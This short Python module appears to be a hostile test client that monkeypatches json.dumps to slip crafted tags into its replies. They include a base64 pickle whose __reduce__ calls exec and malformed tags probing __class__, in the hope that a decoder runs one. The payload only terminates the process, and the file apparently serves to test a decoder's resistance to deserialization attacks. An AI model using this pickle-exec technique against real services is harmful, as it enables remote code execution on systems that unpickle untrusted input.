"""Answers with pickles, code and tags that no encoder knows, hoping that one is executed."""

import base64
import json
import pickle


class Evil:
    def __reduce__(self):
        return exec, ("import os; os._exit(0)",)


real = json.dumps
code = base64.b64encode(pickle.dumps(Evil())).decode()
tags = [
    ["pickle", code],
    ["a", "O", [1], code],
    ["a", "object", [1], code],
    ["r", 1, 2, 3, 4],
    ["h", 0, "__class__"],
]
turn = iter(range(10**9))


def dumps(value, *args, **options):
    if isinstance(value, list) and value[:1] == ["ok"]:
        return real(["ok", tags[next(turn) % len(tags)], []])
    return real(value)


json.dumps = dumps


def step(z):
    return 0
